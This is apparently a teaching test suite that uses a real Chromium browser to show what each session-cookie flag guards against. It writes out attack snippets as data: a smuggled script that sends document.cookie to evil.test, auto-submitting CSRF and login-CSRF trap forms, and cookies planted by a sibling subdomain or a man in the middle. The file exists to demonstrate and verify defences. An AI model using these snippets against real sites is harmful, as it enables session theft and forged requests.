"""What each flag of chapter 5's cookie is for: a real browser, with the flag and without it.

Chromium takes every name under .test for this machine here, and one certificate for all of them.
It must be names: of 127.0.0.1 and localhost browsers believe that nobody can listen.
"""

import base64
import hashlib
import ssl
import time
from contextlib import closing
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from urllib.parse import urlsplit

import pytest
import requests
import trustme
from chromium import Chromium
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from cryptography.x509 import load_pem_x509_certificate

from course import start

pytestmark = pytest.mark.needs_servers

CINEMA, SHOP, EVIL = "cinema.test", "shop.cinema.test", "evil.test"  # the shop: a sibling of ours
API = "api.test"  # where HTTPS is known to be all that there is (HSTS), after the first visit
DAY = 24 * 60 * 60  # seconds
PATIENCE = 10  # seconds


class Site(ThreadingHTTPServer):
    """A server of whatever host it is called by; it remembers which cookies it was sent."""

    def __init__(self, context=None):
        self.pages, self.cookies, self.seen = {}, {}, {}
        self.scheme = "https" if context else "http"
        super().__init__(("127.0.0.1", 0), Page)
        if context:
            self.socket = context.wrap_socket(
                self.socket, server_side=True, do_handshake_on_connect=False
            )
        Thread(target=self.serve_forever, daemon=True).start()

    def url(self, host, path="/"):
        return f"{self.scheme}://{host}:{self.server_port}{path}"

    def cookie_sent_to(self, path):
        """Wait until the browser has asked for a path, and return the cookies that it sent."""
        deadline = time.monotonic() + PATIENCE
        while path not in self.seen:
            assert time.monotonic() < deadline, f"The browser should ask for {path} by now."
            time.sleep(0.02)
        return self.seen[path]

    def handle_error(self, *_):
        """Keep still: browsers open connections that they do not use."""

    def close(self):
        self.shutdown()
        self.server_close()


class Page(BaseHTTPRequestHandler):
    def do_GET(self):
        self.answer()

    def do_POST(self):
        self.answer()

    def answer(self):
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        self.server.seen[self.path] = self.headers.get("Cookie", "")
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Cache-Control", "no-store")
        for cookie in self.server.cookies.get(self.path, ()):
            self.send_header("Set-Cookie", cookie)
        self.end_headers()
        self.wfile.write(self.server.pages.get(self.path, "<p>Hello.").encode())

    def log_message(self, *_):
        """Keep still."""


def fingerprint(certificate):
    """Return what Chromium knows the owner of a certificate by: a hash of the public key."""
    key = certificate.public_key().public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
    return base64.b64encode(hashlib.sha256(key).digest()).decode()


@pytest.fixture(scope="module")
def api():
    with start("5", TRUSTED_HOSTS=f"{API},127.0.0.1") as api:
        yield api


@pytest.fixture(scope="module")
def at_home(api):
    """The API's URL under a name that a browser has no special trust in."""
    return f"https://{API}:{urlsplit(api).port}"


@pytest.fixture(scope="module")
def certificate():
    return trustme.CA().issue_cert(CINEMA)


@pytest.fixture(scope="module")
def switches(api, certificate):
    ours = ssl.get_server_certificate(("127.0.0.1", urlsplit(api).port)).encode()
    theirs = certificate.cert_chain_pems[0].bytes()
    known = ",".join(fingerprint(load_pem_x509_certificate(pem)) for pem in (ours, theirs))
    return (
        "--host-resolver-rules=MAP *.test 127.0.0.1",
        f"--ignore-certificate-errors-spki-list={known}",
    )


@pytest.fixture(scope="module")
def long_open_browser(tmp_path_factory, switches):
    profile = tmp_path_factory.mktemp("profile")
    let_third_parties_have_cookies(profile)
    with Chromium(profile, *switches) as browser:
        yield browser


@pytest.fixture
def browser(long_open_browser):
    """A browser without a single cookie."""
    long_open_browser.call("Network.clearBrowserCookies")
    return long_open_browser


@pytest.fixture
def tls(certificate):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    certificate.configure_cert(context)
    with closing(Site(context)) as site:
        yield site


@pytest.fixture
def plain():
    """The same hosts without TLS: what an eavesdropper can see, and a man in the middle can say."""
    with closing(Site()) as site:
        yield site


@pytest.fixture(scope="module")
def ours(api):
    """The cookie of a login, to the letter."""
    return log_in(api).headers["Set-Cookie"]


@pytest.fixture(scope="module")
def value(ours):
    """What a thief of the cookie would have."""
    return ours.partition("=")[2].partition(";")[0]


@pytest.fixture(scope="module")
def common(ours):
    """The same cookie under a name that asks for no flags."""
    assert ours.startswith("__Host-session=")
    return ours.removeprefix("__Host-")


def log_in(api, **members):
    body = {"name": "alice", "password": api.password} | members
    return requests.post(f"{api}/v1/session", json=body, verify=api.ca, timeout=PATIENCE)


def let_third_parties_have_cookies(profile):
    """Choose what few users would: no other protection is to stand before SameSite."""
    preferences = profile / "Default" / "Preferences"
    preferences.parent.mkdir()
    preferences.write_text('{"profile": {"cookie_controls_mode": 0}}')


def without(flag, cookie):
    assert f"; {flag}" in cookie
    return cookie.replace(f"; {flag}", "")


def test_httponly_keeps_the_cookie_from_scripts(browser, tls, ours, common, value):
    for cookie, stolen in ((without("HttpOnly", common), True), (common, False), (ours, False)):
        browser.call("Network.clearBrowserCookies")
        tls.cookies["/login"] = [cookie]
        browser.open(tls.url(CINEMA, "/login"))

        browser.evaluate(  # a script that somebody has smuggled into our page
            f"fetch({tls.url(EVIL, '/stolen?')!r} + document.cookie, {{mode: 'no-cors'}})"
        )
        browser.open(tls.url(CINEMA, "/account"))

        assert any(value in path for path in tls.seen) == stolen, cookie
        assert value in tls.seen["/account"], "but the server gets the cookie, as it should"
        tls.seen.clear()


def test_httponly_keeps_scripts_from_writing_another(browser, tls, ours, value):
    tls.cookies["/login"] = [ours]
    browser.open(tls.url(CINEMA, "/login"))

    browser.evaluate("document.cookie = '__Host-session=planted; Secure; Path=/'")
    browser.open(tls.url(CINEMA, "/account"))

    assert tls.seen["/account"] == f"__Host-session={value}"


def test_secure_keeps_the_cookie_from_who_listens(browser, tls, plain, ours, common, value):
    for cookie, heard in ((without("Secure", common), True), (common, False), (ours, False)):
        browser.call("Network.clearBrowserCookies")
        tls.cookies["/login"] = [cookie]
        browser.open(tls.url(CINEMA, "/login"))

        browser.open(plain.url(CINEMA, "/logo"))  # one image of an old page would do

        assert (value in plain.cookie_sent_to("/logo")) == heard, cookie
        plain.seen.clear()


def test_secure_cookie_is_not_taken_without_tls(browser, tls, plain, ours):
    plain.cookies["/login"] = [ours]
    browser.open(plain.url(CINEMA, "/login"))

    browser.open(tls.url(CINEMA, "/account"))

    assert tls.seen["/account"] == ""


@pytest.mark.parametrize(
    ("same_site", "link", "form", "image"),
    [
        ("; SameSite=None", True, True, True),
        ("", True, True, False),  # Chromium takes that for Lax, but not in its first two minutes
        ("; SameSite=Lax", True, False, False),
        ("; SameSite=Strict", False, False, False),
    ],
)
def test_samesite_says_what_other_sites_can_send(
    browser, tls, ours, value, same_site, link, form, image
):
    tls.cookies["/login"] = [ours.replace("; SameSite=Lax", same_site)]
    tls.pages["/trap-image"] = f'<img src="{tls.url(CINEMA, "/image")}">'
    tls.pages["/trap-link"] = f'<a href="{tls.url(CINEMA, "/link")}">Look!</a>'
    tls.pages["/trap-form"] = (
        f'<form method="post" action="{tls.url(CINEMA, "/form")}"></form>'
        "<script>document.forms[0].submit()</script>"
    )
    browser.open(tls.url(CINEMA, "/login"))

    browser.open(tls.url(EVIL, "/trap-image"))
    browser.evaluate(
        f"fetch({tls.url(CINEMA, '/fetch')!r},"
        " {method: 'POST', mode: 'no-cors', credentials: 'include'})"
    )
    browser.open(tls.url(EVIL, "/trap-link"))
    browser.click("a")
    tls.cookie_sent_to("/link")
    browser.open(tls.url(EVIL, "/trap-form"))

    sent = {path: value in tls.cookie_sent_to(path) for path in ("/link", "/form", "/image")}
    assert sent == {"/link": link, "/form": form, "/image": image}
    assert (value in tls.cookie_sent_to("/fetch")) == image
    browser.open(tls.url(CINEMA, "/account"))
    assert value in tls.seen["/account"], "our own pages get it, whatever SameSite says"


def test_attack_by_a_form_of_another_site_is_refused(browser, api, at_home, tls):
    """SameSite hinders no login: another site could log its visitors in as bob, and watch them."""
    log_in_on_the_page(browser, api, at_home)
    tls.pages["/trap"] = (
        f'<form method="post" enctype="text/plain" action="{at_home}/v1/session">'
        """<input name='{"name": "bob", "password": "known to bob", "' value='": 1}'></form>"""
        "<script>document.forms[0].submit()</script>"
    )

    browser.open(tls.url(EVIL, "/trap"))
    browser.wait_for(f"location.href.startsWith({at_home!r})")

    assert "This request comes from another site." in browser.text
    browser.open(f"{at_home}/docs")
    assert user_of(browser) == "alice"


def test_host_prefix_keeps_siblings_from_planting_a_cookie(browser, tls):
    planted = "planted; Domain=cinema.test; Path=/; Secure"
    tls.cookies["/shop"] = [f"session={planted}", f"__Host-session={planted}"]
    browser.open(tls.url(SHOP, "/shop"))

    browser.open(tls.url(CINEMA, "/account"))

    assert tls.seen["/account"] == "session=planted"


def test_host_prefix_keeps_a_man_in_the_middle_from_planting_a_cookie(browser, tls, plain):
    plain.cookies["/"] = [
        "session=planted; Path=/",
        "__Host-session=planted; Path=/",
        "__Host-session=planted; Path=/; Secure",
    ]
    browser.open(plain.url(CINEMA))

    browser.open(tls.url(CINEMA, "/account"))

    assert tls.seen["/account"] == "session=planted"


def test_cookie_that_was_planted_comes_first(browser, tls, common, value):
    """It is sent before ours if its path is longer, and a server that takes the first takes it."""
    tls.cookies["/login"] = [common]
    tls.cookies["/shop"] = ["session=planted; Domain=cinema.test; Path=/account; Secure"]
    browser.open(tls.url(CINEMA, "/login"))
    browser.open(tls.url(SHOP, "/shop"))

    browser.open(tls.url(CINEMA, "/account"))

    assert tls.seen["/account"] == f"session=planted; session={value}"


def test_cookie_of_a_host_stays_there(browser, tls, ours, value):
    """With Domain=, each subdomain gets it; and without, every port of the host, so be alone."""
    with_domain = f"session={value}; Domain=cinema.test; Path=/; Secure"
    tls.cookies["/login"] = [with_domain, ours]
    browser.open(tls.url(CINEMA, "/login"))

    browser.open(tls.url(SHOP, "/shop"))

    assert tls.seen["/shop"] == f"session={value}"


def test_cookie_is_sent_to_every_port_of_its_host(browser, api, at_home, tls):
    log_in_on_the_page(browser, api, at_home)

    browser.open(tls.url(API, "/another-server"))

    assert tls.seen["/another-server"].startswith("__Host-session=")


def test_no_flags_no_cookie(browser, tls):
    tls.cookies["/login"] = [
        "__Host-session=1; Path=/",
        "__Host-session=2; Path=/account; Secure",
        "__Host-session=3; Path=/; Secure; Domain=cinema.test",
    ]
    browser.open(tls.url(CINEMA, "/login"))

    browser.open(tls.url(CINEMA, "/account"))

    assert tls.seen["/account"] == ""


def test_no_browser_keeps_a_cookie_for_ever(browser, tls):
    tls.cookies["/login"] = [f"__Host-session=1; Path=/; Secure; Max-Age={10 * 365 * DAY}"]
    browser.open(tls.url(CINEMA, "/login"))

    (cookie,) = browser.call("Network.getCookies")["cookies"]

    assert 399 * DAY < cookie["expires"] - time.time() < 401 * DAY


def log_in_on_the_page(browser, api, at_home, remember="false"):
    """Log in as a page of ours does: by a script that cannot see the cookie."""
    browser.open(f"{at_home}/docs")
    status = browser.evaluate(
        f"fetch('/v1/session', {{method: 'POST', headers: {{'Content-Type': 'application/json'}},"
        f" body: JSON.stringify({{name: 'alice', password: {api.password!r},"
        f" remember: {remember}}})}}).then(answer => answer.status)"
    )
    assert status == 201


def user_of(browser):
    """Return who is logged in, as a page of ours sees it."""
    return browser.evaluate("fetch('/v1/session').then(answer => answer.json()).then(j => j.user)")


def test_page_logs_in_and_out_and_never_sees_the_cookie(browser, api, at_home):
    log_in_on_the_page(browser, api, at_home)

    assert user_of(browser) == "alice"
    assert browser.evaluate("document.cookie") == ""
    (cookie,) = browser.call("Network.getCookies")["cookies"]
    assert (cookie["name"], cookie["session"]) == ("__Host-session", True)
    copy = {"Cookie": f"__Host-session={cookie['value']}"}

    status = browser.evaluate(
        "fetch('/v1/session').then(answer => answer.json()).then(session => fetch('/v1/session',"
        " {method: 'DELETE', headers: {'X-CSRF-Token': session.csrf_token}}))"
        ".then(answer => answer.status)"
    )

    assert status == 204
    assert browser.call("Network.getCookies")["cookies"] == []
    stolen = requests.get(f"{api}/v1/session", headers=copy, verify=api.ca, timeout=PATIENCE)
    assert stolen.status_code == 404, "a copy should be dead after the logout"


def test_cookie_is_taken_back_only_with_its_flags(browser, tls, ours):
    tls.cookies["/login"] = [ours]
    tls.cookies["/naive-logout"] = ["__Host-session=; Max-Age=0; Path=/"]
    browser.open(tls.url(CINEMA, "/login"))
    browser.open(tls.url(CINEMA, "/naive-logout"))

    browser.open(tls.url(CINEMA, "/account"))

    assert tls.seen["/account"].startswith("__Host-session=")


@pytest.mark.parametrize(("remember", "user"), [("false", None), ("true", "alice")])
def test_who_is_remembered_is_known_when_the_browser_is_opened_again(
    tmp_path, switches, api, at_home, remember, user
):
    with Chromium(tmp_path, *switches) as browser:
        log_in_on_the_page(browser, api, at_home, remember)
        assert user_of(browser) == "alice"

    with Chromium(tmp_path, *switches) as browser:
        browser.open(f"{at_home}/docs")

        assert user_of(browser) == user
        assert browser.evaluate("document.cookie") == ""
